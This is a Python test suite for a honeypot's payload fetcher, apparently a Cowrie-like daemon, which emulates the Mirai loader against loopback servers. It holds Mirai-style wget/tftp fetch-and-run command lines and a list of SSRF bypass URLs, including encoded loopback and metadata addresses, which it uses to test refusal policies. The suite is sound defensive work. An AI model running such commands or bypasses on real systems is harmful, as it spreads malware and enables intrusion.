"""The payload fetcher (issue #4) against servers the test runs on
127.0.0.1: HTTP (Content-Length, chunked, close-delimited, redirects),
TFTP, FTP passive, a DNS server, the Mirai loader and its dlr second stage,
and a matrix of hostile URLs and answers, each refused or cut at its cap
while the daemon keeps serving telnet. Every config sets `public '0'` and
its own loopback DNS server: nothing leaves 127.0.0.0/8."""
import hashlib
import os
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
import fetchsrv  # noqa: E402
import mirai  # noqa: E402
import tanuki_test as tt  # noqa: E402
from tanuki_test import Conn, Daemon, by_id  # noqa: E402

PERSONA = "huawei-hg532"  # wget, tftp and ftpget


def payload(tag, n):
    """Deterministic bytes of length n that differ per tag."""
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(b"%s-%d" % (tag.encode(), i)).digest()
        i += 1
    return b"\x7fELF" + out[:n - 4]


def fetch_conf(dns_port, allow=True, dlr_port=None, max_kb=64, timeout_s=3):
    lines = ["config fetch 'fetch'",
             "\toption enabled '1'",
             "\toption public '0'",
             "\toption max_kb '%d'" % max_kb,
             "\toption timeout_s '%d'" % timeout_s,
             "\toption dns '127.0.0.1:%d'" % dns_port]
    if allow:
        lines.append("\tlist allow '127.0.0.0/8'")
    if dlr_port:
        lines.append("\toption dlr_port '%d'" % dlr_port)
    return lines


def shell(d):
    info = tt.persona_info(PERSONA)
    user, pw, _ = info["creds"][0]
    c = Conn(d.port)
    mirai.login(c, user, pw)
    mirai.enter_shell(c)
    return c


def downloads(evs):
    return by_id(evs, "cowrie.session.file_download") + \
        by_id(evs, "cowrie.session.file_download.failed")


def count_downloads(d, url):
    return len([e for e in downloads(d.events()) if e.get("url") == url])


def run_and_wait(d, c, cmd, url, timeout=12, before=None):
    """Runs cmd in the shell and waits for the one download event of url.
    `before` is the count of url's events taken before the fetch began,
    for a fetch started earlier (its event may already be written)."""
    if before is None:
        before = count_downloads(d, url)
    mirai.token_cmd(c, cmd)
    evs = d.wait_events(lambda e: len([x for x in downloads(e) if x.get("url") == url])
                        > before, timeout)
    return [x for x in downloads(evs) if x.get("url") == url][-1]


def login_works(d):
    c = shell(d)
    out = mirai.token_cmd(c, "echo alive")
    c.close()
    assert b"alive" in out, out


def test_fetch_protocols():
    files = {"/bins/a": ("file", payload("a", 5000)),
             "/chunked": ("chunked", payload("b", 7777)),
             "/close": ("close", payload("c", 3000)),
             "/bins/d": ("file", payload("d", 100))}
    tfiles = {"e.bin": payload("e", 1500), "f.bin": payload("f", 1024)}
    http = fetchsrv.http_server(files)
    tftp = fetchsrv.Tftp(tfiles)
    ftp = fetchsrv.Ftp({"g.bin": payload("g", 20000)})
    dns = fetchsrv.Dns({"good.test": "127.0.0.1"})
    hp = http.server_address[1]
    try:
        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port)) as d:
            c = shell(d)
            cases = [
                ("wget http://127.0.0.1:%d/bins/a -O /tmp/a" % hp,
                 "http://127.0.0.1:%d/bins/a" % hp, files["/bins/a"][1]),
                ("wget -O /tmp/b http://127.0.0.1:%d/chunked" % hp,
                 "http://127.0.0.1:%d/chunked" % hp, files["/chunked"][1]),
                ("wget http://127.0.0.1:%d/close" % hp,
                 "http://127.0.0.1:%d/close" % hp, files["/close"][1]),
                ("wget http://good.test:%d/bins/d" % hp,
                 "http://good.test:%d/bins/d" % hp, files["/bins/d"][1]),
                ("tftp -g -l /tmp/e -r e.bin 127.0.0.1 %d" % tftp.port,
                 "tftp://127.0.0.1:%d/e.bin" % tftp.port, tfiles["e.bin"]),
                ("tftp -g -l /tmp/f -r f.bin 127.0.0.1 %d" % tftp.port,
                 "tftp://127.0.0.1:%d/f.bin" % tftp.port, tfiles["f.bin"]),
                ("ftpget -P %d 127.0.0.1 /tmp/g g.bin" % ftp.port,
                 "ftp://127.0.0.1:%d/g.bin" % ftp.port, payload("g", 20000)),
            ]
            for cmd, url, body in cases:
                ev = run_and_wait(d, c, cmd, url)
                sha = hashlib.sha256(body).hexdigest()
                assert ev["eventid"] == "cowrie.session.file_download", (cmd, ev)
                assert ev["shasum"] == sha, (cmd, ev)
                assert ev["outfile"].endswith("/files/" + sha), ev
                assert ev["duplicate"] is False
                assert ev["session"] and ev["src_ip"] == "127.0.0.1"
                assert d.files()[sha] == body
            # the same file again: stored once, logged as a duplicate
            ev = run_and_wait(d, c, "wget http://127.0.0.1:%d/bins/a -O /tmp/a2" % hp,
                              "http://127.0.0.1:%d/bins/a" % hp)
            assert ev["duplicate"] is True, ev
            assert ev["destfile"] == "/tmp/a2", ev
            c.close()
            assert ("good.test", 1) in [(n, t) for n, t, _ in dns.queries]
            assert "USER anonymous" in ftp.log and "TYPE I" in ftp.log and "PASV" in ftp.log
    finally:
        http.shutdown()
        tftp.close()
        ftp.close()
        dns.close()


def test_fetch_loader_mirai_and_dlr():
    """The Mirai loader with wget and tftp, then the echo-built dlr whose
    compiled-in address (127.0.0.1) and GET line lead to a second stage."""
    bot = payload("mirai", 30000)
    stage2 = payload("stage2", 9000)
    http = fetchsrv.http_server({"/bins/mirai.arm": ("file", bot),
                                 "/bins/stage2.arm": ("file", stage2)})
    tftp = fetchsrv.Tftp({"mirai.arm": bot})
    dns = fetchsrv.Dns({})
    hp = http.server_address[1]
    info = tt.persona_info(PERSONA)
    user, pw, _ = info["creds"][0]
    try:
        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port, dlr_port=hp)) as d:
            ld = mirai.Loader(d.port, user, pw)
            ld.step_ps()
            ld.step_mounts()
            ld.step_prepare()
            ld.step_arch()
            assert ld.step_method() == "wget"
            sha = hashlib.sha256(bot).hexdigest()
            url = "http://127.0.0.1:%d/bins/mirai.arm" % hp
            ev = run_and_wait(d, ld.c, "/bin/busybox wget %s -O - > dvrHelper" % url, url)
            assert ev.get("shasum") == sha, ev
            turl = "tftp://127.0.0.1:%d/mirai.arm" % tftp.port
            ev = run_and_wait(d, ld.c, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm "
                              "127.0.0.1 %d" % tftp.port, turl)
            assert ev.get("shasum") == sha and ev["duplicate"] is True, ev
            # the echo loader rebuilds dlr, runs it: captured, then its payload
            dlr = mirai.fake_dlr(path=b"/bins/stage2.arm")
            ld.upload_echo(dlr)
            ld.run("./upnp")
            dsha = hashlib.sha256(dlr).hexdigest()
            s2 = hashlib.sha256(stage2).hexdigest()
            evs = d.wait_events(lambda e: any(x.get("shasum") == s2 for x in e), 12)
            sec = by_id(evs, "tanuki.download.second_stage")
            assert sec and sec[0]["parent_shasum"] == dsha, sec
            assert sec[0]["url"] == "http://127.0.0.1:%d/bins/stage2.arm" % hp, sec
            got = [x for x in by_id(evs, "cowrie.session.file_download") if x["shasum"] == s2]
            assert got[0]["parent_shasum"] == dsha, got
            assert got[0]["session"] == sec[0]["session"]
            files = d.files()
            assert files[sha] == bot and files[s2] == stage2 and files[dsha] == dlr
            ld.close()
    finally:
        http.shutdown()
        tftp.close()
        dns.close()


# Every one of these is refused by the policy before a socket exists: the
# daemon has `public '0'` and no allow list, so not even loopback is open.
HOSTILE = [
    ("http://127.0.0.1:{p}/x", "loopback"),
    ("http://2130706433:{p}/x", "loopback"),
    ("http://0177.0.0.1:{p}/x", "loopback"),
    ("http://0x7f000001:{p}/x", "loopback"),
    ("http://0x7f.1:{p}/x", "loopback"),
    ("http://127.1:{p}/x", "loopback"),
    ("http://127.0.0.1.:{p}/x", "loopback"),
    ("http://[::ffff:127.0.0.1]:{p}/x", "loopback"),
    ("http://[::1]:{p}/x", "loopback"),
    ("http://user@127.0.0.1:{p}/x", "loopback"),
    ("http://evil.example@127.0.0.1:{p}/x", "loopback"),
    ("http://0.0.0.0:{p}/x", "this_network"),
    ("http://0:{p}/x", "this_network"),
    ("http://10.0.0.1/x", "private"),
    ("http://012.1/x", "private"),
    ("http://167772161/x", "private"),
    ("http://172.16.5.4/x", "private"),
    ("http://192.168.1.1/x", "private"),
    ("http://0xc0a80101/x", "private"),
    ("http://100.64.0.1/x", "shared_cgn"),
    ("http://169.254.169.254/latest/meta-data/", "link_local"),
    ("http://192.0.0.8/x", "ietf_protocol"),
    ("http://192.0.2.1/x", "documentation"),
    ("http://192.88.99.1/x", "6to4_relay"),
    ("http://198.18.0.1/x", "benchmarking"),
    ("http://198.51.100.7/x", "documentation"),
    ("http://203.0.113.9/x", "documentation"),
    ("http://224.0.0.1/x", "multicast"),
    ("http://240.0.0.1/x", "reserved"),
    ("http://255.255.255.255/x", "reserved"),
    ("http://[::]/x", "unspecified"),
    ("http://[::ffff:10.0.0.1]/x", "private"),
    ("http://[64:ff9b::192.168.0.1]/x", "private"),
    ("http://[2002:c0a8:101::1]/x", "private"),
    ("http://[100::1]/x", "discard"),
    ("http://[2001:db8::1]/x", "documentation"),
    ("http://[2001::1]/x", "ietf_protocol"),
    ("http://[fc00::1]/x", "unique_local"),
    ("http://[fd12:3456::1]/x", "unique_local"),
    ("http://[fe80::1]/x", "link_local"),
    ("http://[ff02::1]/x", "multicast"),
    ("http://8.8.8.8/x", "public_off"),
    ("tftp://10.1.2.3/x", "private"),
    ("ftp://192.168.0.10/x", "private"),
]


def test_fetch_hostile_urls_refused():
    http = fetchsrv.http_server({"/x": ("file", b"must never be fetched")})
    dns = fetchsrv.Dns({})
    hp = http.server_address[1]
    try:
        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port, allow=False)) as d:
            c = shell(d)
            want = {}
            for tmpl, why in HOSTILE:
                url = tmpl.format(p=hp)
                if url.startswith("tftp://"):
                    cmd = "tftp -g -l /tmp/t -r x 10.1.2.3"
                elif url.startswith("ftp://"):
                    cmd = "ftpget 192.168.0.10 /tmp/f x"
                else:
                    cmd = "wget %s -O /tmp/h" % url
                mirai.token_cmd(c, cmd)
                want[url] = why
            evs = d.wait_events(lambda e: set(want) <= {x.get("url") for x in downloads(e)})
            for x in downloads(evs):
                assert x["eventid"] == "cowrie.session.file_download.failed", x
                assert x["reason"] == "policy" and x["detail"] == want[x["url"]], x
            # numeric junk is not sent to DNS either
            ev = run_and_wait(d, c, "wget http://1.2.3.4.5/x", "http://1.2.3.4.5/x")
            assert ev["reason"] == "bad_host", ev
            c.close()
            login_works(d)
        assert http.hits == [], http.hits
        assert dns.queries == [], dns.queries
    finally:
        http.shutdown()
        dns.close()


def test_fetch_hostile_answers_cut():
    http = fetchsrv.http_server({
        "/redir": ("redirect", "http://10.0.0.1/x"),
        "/redir-rel": ("redirect", "/bins/ok"),
        "/bins/ok": ("file", payload("ok", 2000)),
        "/endless": ("endless", None),
        "/drip": ("drip", None),
        "/huge": ("huge", None),
    })
    tftp = fetchsrv.Tftp({"silent": "silent", "stall": "stall"})
    dns = fetchsrv.Dns({"evil.test": "10.0.0.5"})
    hp = http.server_address[1]
    base = "http://127.0.0.1:%d" % hp
    try:
        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port, max_kb=64, timeout_s=3)) as d:
            c = shell(d)
            ev = run_and_wait(d, c, "wget %s/redir" % base, base + "/redir")
            assert ev["reason"] == "policy" and ev["detail"] == "private", ev
            assert ev["final_url"] == "http://10.0.0.1/x", ev
            ev = run_and_wait(d, c, "wget %s/redir-rel" % base, base + "/redir-rel")
            assert ev["eventid"] == "cowrie.session.file_download", ev
            assert ev["final_url"] == base + "/bins/ok", ev
            ev = run_and_wait(d, c, "wget http://evil.test:%d/x" % hp,
                              "http://evil.test:%d/x" % hp)
            assert ev["reason"] == "policy" and ev["dst_host"] == "10.0.0.5", ev
            ev = run_and_wait(d, c, "wget http://nxdomain.test/x", "http://nxdomain.test/x")
            assert ev["reason"] == "dns", ev
            ev = run_and_wait(d, c, "wget %s/endless" % base, base + "/endless")
            assert ev["reason"] == "too_large", ev
            ev = run_and_wait(d, c, "wget %s/huge" % base, base + "/huge")
            assert ev["reason"] == "too_large" and ev["detail"] == "Content-Length", ev
            # a slow drip is cut at timeout_s, and telnet is served meanwhile
            t0 = time.time()
            before = count_downloads(d, base + "/drip")
            mirai.token_cmd(c, "wget %s/drip" % base)
            login_works(d)
            ev = run_and_wait(d, c, "true", base + "/drip", before=before)
            assert ev["reason"] == "timeout", ev
            assert 2.5 <= time.time() - t0 <= 8, time.time() - t0
            c.close()  # 7 fetches so far: a new session for the TFTP ones
            c = shell(d)
            ev = run_and_wait(d, c, "tftp -g -l /tmp/s -r silent 127.0.0.1 %d" % tftp.port,
                              "tftp://127.0.0.1:%d/silent" % tftp.port)
            assert ev["reason"] == "timeout", ev
            ev = run_and_wait(d, c, "tftp -g -l /tmp/s -r stall 127.0.0.1 %d" % tftp.port,
                              "tftp://127.0.0.1:%d/stall" % tftp.port)
            assert ev["reason"] == "timeout", ev
            ev = run_and_wait(d, c, "tftp -g -l /tmp/s -r nofile 127.0.0.1 %d" % tftp.port,
                              "tftp://127.0.0.1:%d/nofile" % tftp.port)
            assert ev["reason"] == "tftp_error", ev
            c.close()
            login_works(d)
            assert not d.files().get(hashlib.sha256(b"A" * 512).hexdigest())
    finally:
        http.shutdown()
        tftp.close()
        dns.close()


def test_fetch_caps_per_session():
    """A loop of wgets gets CAP_FETCH_PER_SESSION fetches, then refusals."""
    http = fetchsrv.http_server({"/n%d" % i: ("file", payload("n%d" % i, 100))
                                 for i in range(12)})
    dns = fetchsrv.Dns({})
    hp = http.server_address[1]
    try:
        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port)) as d:
            c = shell(d)
            reasons = []
            for i in range(10):
                url = "http://127.0.0.1:%d/n%d" % (hp, i)
                ev = run_and_wait(d, c, "wget %s" % url, url)
                reasons.append(ev.get("reason", "ok"))
            c.close()
            assert reasons == ["ok"] * 8 + ["session_cap"] * 2, reasons
    finally:
        http.shutdown()
        dns.close()


def test_fetch_config_errors():
    """Unknown options in config fetch are FILE:LINE errors, exit 2."""
    import subprocess
    d = Daemon(extra=["config fetch 'fetch'", "\toption dns '127.0.0.1:5353'",
                      "\toption colour 'blue'"])
    p = subprocess.run([d.binary, "check", "-c", d.conf], capture_output=True, text=True)
    assert p.returncode == 2 and "unknown option: colour" in p.stderr, p.stderr
    assert p.stderr.startswith(d.conf + ":"), p.stderr
    d = Daemon(extra=["config fetch 'fetch'", "\tlist allow '10.0.0.0/33'"])
    p = subprocess.run([d.binary, "check", "-c", d.conf], capture_output=True, text=True)
    assert p.returncode == 2 and "allow must be" in p.stderr, p.stderr


# ---- the shell waits for its downloads (issue #4 follow-up) ----

def meter(name, size):
    """BusyBox 1.1x wget's last status line on an 80-column terminal."""
    return b"\r%-20s 100%% |%s|%6d  --:--:-- ETA\r\n" % (name.encode(), b"*" * 31, size)


def test_fetch_shell_waits_and_vfs():
    """wget/tftp then chmod/ls/cat/sh on the fetched file, in one line:
    BusyBox's success output, the file in the session's fs at its size,
    the sample in the store; a line typed meanwhile runs afterwards."""
    bot = payload("w", 5000)
    script = b"echo fetched-and-run\n"
    http = fetchsrv.http_server({"/bins/a": ("file", bot), "/s.sh": ("file", script),
                                 "/late": ("slow", (1.5, payload("late", 700)))})
    tftp = fetchsrv.Tftp({"t.bin": payload("t", 1300)})
    dns = fetchsrv.Dns({})
    hp = http.server_address[1]
    try:
        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port)) as d:
            c = shell(d)
            out = mirai.token_cmd(c, "cd /tmp; wget http://127.0.0.1:%d/bins/a -O y; "
                                  "chmod 777 y; ls -l y; ./y" % hp)
            assert b"Connecting to 127.0.0.1:%d (127.0.0.1:%d)\r\n" % (hp, hp) in out, out
            assert meter("y", 5000) in out, out
            assert b"-rwxrwxrwx" in out and b" 5000 " in out, out
            assert b"wget:" not in out, out
            out = mirai.token_cmd(c, "wget http://127.0.0.1:%d/s.sh && cat s.sh && sh s.sh" % hp)
            assert meter("s.sh", len(script)) in out, out
            assert out.count(b"echo fetched-and-run") == 1, out
            assert b"\r\nfetched-and-run\r\n" in out, out
            # tftp: silent on success
            out = mirai.token_cmd(c, "/bin/busybox tftp -g -l t -r t.bin 127.0.0.1 %d; ls -l t"
                                  % tftp.port)
            assert b"tftp:" not in out and b" 1300 " in out, out
            # a line typed while the shell waits runs after it, in order
            c.send("wget http://127.0.0.1:%d/late -O late\r\necho typed-meanwhile\r\n" % hp)
            out = c.read_until(b"# typed-meanwhile\r\n", 12)
            done = b"\rlate                 100% |" + b"*" * 31 + b"|   700  "
            assert out.index(done) < out.index(b"# typed-meanwhile\r\n"), out
            mirai.read_prompt(c)
            c.close()
            files = d.files()
            for body in (bot, script, payload("t", 1300), payload("late", 700)):
                assert files.get(hashlib.sha256(body).hexdigest()) == body
            evs = d.events()
            # stored by the fetcher: chmod and the run capture nothing again
            caps = [e for e in by_id(evs, "cowrie.session.file_download")
                    if e.get("reason") in ("chmod", "exec")]
            assert not caps, caps
    finally:
        http.shutdown()
        tftp.close()
        dns.close()


def test_fetch_shell_failure_texts():
    """404, refused, unknown name, timeout: BusyBox's own words, and the
    rest of the line goes on (|| sees the failure)."""
    http = fetchsrv.http_server({"/drip": ("drip", None)})
    tftp = fetchsrv.Tftp({"silent.bin": "silent"})
    dns = fetchsrv.Dns({})
    hp = http.server_address[1]
    closed = tt.free_port()
    try:
        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port, timeout_s=3)) as d:
            c = shell(d)
            out = mirai.token_cmd(c, "cd /tmp; wget http://127.0.0.1:%d/nope || echo failed-ok" % hp)
            assert (b"Connecting to 127.0.0.1:%d (127.0.0.1:%d)\r\n"
                    b"wget: server returned error: HTTP/1.1 404 Not Found\r\nfailed-ok\r\n"
                    % (hp, hp)) in out, out
            out = mirai.token_cmd(c, "wget http://127.0.0.1:%d/x" % closed)
            assert (b"wget: can't connect to remote host (127.0.0.1): Connection refused\r\n"
                    in out), out
            out = mirai.token_cmd(c, "wget http://nx.test/x")
            assert b"wget: bad address 'nx.test'\r\n" in out, out
            assert b"Connecting" not in out
            out = mirai.token_cmd(c, "wget http://127.0.0.1:%d/drip" % hp, timeout=15)
            assert b"wget: download timed out\r\n" in out, out
            out = mirai.token_cmd(c, "tftp -g -r missing.bin 127.0.0.1 %d" % tftp.port)
            assert b"tftp: server error: (1) File not found\r\n" in out, out
            # BusyBox 1.9.1 (this persona) tftp: 12 waits from 50 ms growing
            # by half to 2 s, 9639 ms; the fetcher gave up at timeout_s (3 s)
            # and the shell holds the answer back for the rest
            t0 = time.time()
            out = mirai.token_cmd(c, "tftp -g -r silent.bin 127.0.0.1 %d" % tftp.port,
                                  timeout=30)
            took = time.time() - t0
            assert b"tftp: timeout\r\n" in out, out
            assert took >= 9.639 - 0.3, took
            # resent on BusyBox's schedule (100, 150, 225, ... ms): several
            # RRQs within the fetcher's 3 s
            assert tftp.requests.count("silent.bin") >= 5, tftp.requests
            out = mirai.token_cmd(c, "ls")
            for name in (b"nope", b"drip", b"missing.bin", b"silent.bin"):
                assert name not in out, out
            c.close()
    finally:
        http.shutdown()
        tftp.close()
        dns.close()


def test_fetch_ftpget_login():
    """ftpget -u/-p log in with what they were given; a wrong password is
    BusyBox's `unexpected server response`."""
    body = payload("ftp", 3000)
    ftp = fetchsrv.Ftp({"bins/g.bin": body}, users={"bob": "s3cret"})
    dns = fetchsrv.Dns({})
    try:
        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port)) as d:
            c = shell(d)
            out = mirai.token_cmd(c, "cd /tmp; ftpget -u bob -p s3cret -P %d 127.0.0.1 g "
                                  "bins/g.bin; ls -l g" % ftp.port)
            assert b"ftpget:" not in out and b" 3000 " in out, out
            assert "USER bob" in ftp.log and "PASS s3cret" in ftp.log, ftp.log
            out = mirai.token_cmd(c, "ftpget -u bob -p wrong -P %d 127.0.0.1 h bins/g.bin"
                                  % ftp.port)
            assert (b"ftpget: unexpected server response to PASS: 530 Login incorrect.\r\n"
                    in out), out
            c.close()
            assert d.files().get(hashlib.sha256(body).hexdigest()) == body
            reqs = by_id(d.wait_events(lambda e: len(by_id(e, "tanuki.download.request")) >= 2),
                         "tanuki.download.request")
            assert any(r.get("username") == "bob" and r.get("password") == "s3cret"
                       for r in reqs), reqs
    finally:
        ftp.close()
        dns.close()


def _persona_with_curl(tmp):
    """zyxel-pk5001z with curl added to its applets (no shipped persona
    has curl; the shell's curl is tested through this copy)."""
    import shutil
    src = os.path.join(tt.TOP, "personas", "zyxel-pk5001z")
    dst = os.path.join(tmp, "zyxel-curl")
    shutil.copytree(src, dst, symlinks=True)
    path = os.path.join(dst, "persona")
    with open(path) as f:
        text = f.read()
    i = text.index("option applets '")
    j = text.index("'", i + len("option applets '"))
    with open(path, "w") as f:
        f.write(text[:j] + " curl" + text[j:])
    return tmp


def test_fetch_curl():
    import tempfile
    body = payload("curl", 4000)
    http = fetchsrv.http_server({"/bins/c": ("file", body)})
    dns = fetchsrv.Dns({})
    hp = http.server_address[1]
    tmp = tempfile.mkdtemp(prefix="tanuki-personas-")
    try:
        pdir = _persona_with_curl(tmp)
        with Daemon(persona="zyxel-curl", main={"personas": pdir},
                    extra=fetch_conf(dns.port)) as d:
            info = tt.persona_info("zyxel-pk5001z")
            user, pw, _ = info["creds"][0]
            c = Conn(d.port)
            mirai.login(c, user, pw)
            mirai.enter_shell(c)
            out = mirai.token_cmd(c, "cd /tmp; curl -o c http://127.0.0.1:%d/bins/c; ls -l c" % hp)
            assert b"  % Total    % Received % Xferd" in out, out
            assert b"\r100  4000  100  4000    0     0" in out, out
            assert b" 4000 " in out.split(b"Speed\r\n")[-1], out
            out = mirai.token_cmd(c, "curl -s -O http://127.0.0.1:%d/bins/c; ls -l c" % hp)
            assert b"% Total" not in out and b" 4000 " in out, out
            out = mirai.token_cmd(c, "curl http://127.0.0.1:%d/x; echo rc=$?" % tt.free_port())
            assert b"curl: (7) Failed to connect to 127.0.0.1 port" in out, out
            assert b"Connection refused\r\nrc=7\r\n" in out, out
            c.close()
            assert d.files().get(hashlib.sha256(body).hexdigest()) == body
    finally:
        http.shutdown()
        dns.close()
        import shutil
        shutil.rmtree(tmp, ignore_errors=True)


def test_fetch_session_ends_while_waiting():
    """The peer leaves while its shell waits: no crash, no leak (ASan), and
    the fetch still ends and stores the sample."""
    late = payload("gone", 900)
    http = fetchsrv.http_server({"/late": ("slow", (1.5, late))})
    dns = fetchsrv.Dns({})
    hp = http.server_address[1]
    try:
        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port)) as d:
            c = shell(d)
            c.send("wget http://127.0.0.1:%d/late; echo never\r\n" % hp)
            time.sleep(0.3)
            c.close()
            sha = hashlib.sha256(late).hexdigest()
            d.wait_events(lambda e: any(x.get("shasum") == sha for x in e), 10)
            assert d.files().get(sha) == late
            login_works(d)
    finally:
        http.shutdown()
        dns.close()


def _dlr_fixture(name):
    """A downloader of tests/lib/dlr built by `make` (build/dlr, as
    test_dlr uses them): every Debian cross compiler, never run."""
    path = os.path.join(tt.BUILD, "dlr", name)
    assert os.path.exists(path), "build the downloaders first: make %s/dlr/manifest" % tt.BUILD
    with open(path, "rb") as f:
        return f.read()


def test_fetch_second_stage_verdicts():
    """Three downloaders fetched into the shell: a certain one is fetched
    through the address policy (198.18.7.9 is refused: benchmarking), an
    uncertain one built with the address split off (no sockaddr in the
    code) and a fake one with two GET lines (a candidate, 127.0.0.1) fetch
    nothing and say so."""
    certain = _dlr_fixture("dl-mips-Os-198.18.7.9-80-0")
    split = _dlr_fixture("dl-mips-O2-198.18.7.9-80-1")
    http = fetchsrv.http_server({})
    twice = mirai.fake_dlr(path=b"/bins/two.arm", port=http.server_address[1],
                           extra=b"GET /bins/other.arm HTTP/1.0\r\n\r\n\x00")
    http.routes.update({"/c": ("file", certain), "/s": ("file", split), "/t": ("file", twice)})
    dns = fetchsrv.Dns({})
    hp = http.server_address[1]
    try:
        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port, dlr_port=hp)) as d:
            c = shell(d)
            for name in ("c", "s", "t"):
                url = "http://127.0.0.1:%d/%s" % (hp, name)
                ev = run_and_wait(d, c, "wget %s -O /tmp/%s" % (url, name), url)
                assert ev["eventid"] == "cowrie.session.file_download", ev
            shas = {n: hashlib.sha256(b).hexdigest()
                    for n, b in (("c", certain), ("s", split), ("t", twice))}
            evs = d.wait_events(lambda e: len(by_id(e, "tanuki.download.second_stage")) >= 3
                                and any(x.get("parent_shasum") == shas["c"]
                                        for x in downloads(e)))
            sec = {e["parent_shasum"]: e for e in by_id(evs, "tanuki.download.second_stage")}
            ev = sec[shas["c"]]
            assert ev["verdict"] == "certain" and ev["fetched"] is True, ev
            assert ev["arch"] == "mips" and ev["host"] == "198.18.7.9", ev
            assert ev["port"] == hp and ev["path"] == "/bins/x.mips", ev
            assert ev["url"] == "http://198.18.7.9:%d/bins/x.mips" % hp, ev
            # fetched through the normal policy: refused before any socket
            got = [x for x in downloads(evs) if x.get("parent_shasum") == shas["c"]]
            assert len(got) == 1, got
            assert got[0]["reason"] == "policy" and got[0]["detail"] == "benchmarking", got
            ev = sec[shas["s"]]
            assert ev["verdict"] == "uncertain" and ev["fetched"] is False, ev
            assert ev["reason"] == "uncertain" and ev["detail"] == "no_sockaddr", ev
            assert ev["arch"] == "mips" and ev["path"] == "/bins/x.mips", ev
            assert "url" not in ev and "candidate" not in ev, ev
            ev = sec[shas["t"]]
            assert ev["verdict"] == "uncertain" and ev["fetched"] is False, ev
            assert ev["reason"] == "uncertain" and ev["detail"] == "several_requests", ev
            assert ev["candidate"] == "127.0.0.1" and ev["port"] == hp, ev
            assert ev["arch"] == "arm" and "url" not in ev, ev
            c.close()
            d.wait_events(lambda e: by_id(e, "cowrie.session.closed"))
            # nothing was fetched for the uncertain ones, nor for anyone else
            for e in downloads(d.events()):
                assert e.get("parent_shasum") in (None, shas["c"]), e
            assert sorted(http.hits) == ["/c", "/s", "/t"], http.hits
    finally:
        http.shutdown()
        dns.close()


def test_fetch_off_no_route():
    """Fetching off: the applets answer at once as a device with no route
    (xconnect's and xsendto's ENETUNREACH, a name unresolved)."""
    for persona in ("huawei-hg532", "xiongmai-dvr"):
        info = tt.persona_info(persona)
        user, pw, _ = info["creds"][0]
        with Daemon(persona=persona) as d:
            c = Conn(d.port)
            mirai.login(c, user, pw)
            mirai.enter_shell(c)
            out = mirai.token_cmd(c, "tftp -g -r x.bin 203.0.113.5; echo rc=$?")
            assert b"tftp: sendto: Network is unreachable\r\nrc=1\r\n" in out, out
            out = mirai.token_cmd(c, "tftp -g -r x.bin nowhere.test")
            assert b"tftp: bad address 'nowhere.test'\r\n" in out, out
            if "wget" in info["applets"]:
                out = mirai.token_cmd(c, "wget http://203.0.113.5/x")
                assert (b"Connecting to 203.0.113.5 (203.0.113.5:80)\r\nwget: can't connect "
                        b"to remote host (203.0.113.5): Network is unreachable\r\n") in out, out
            c.close()
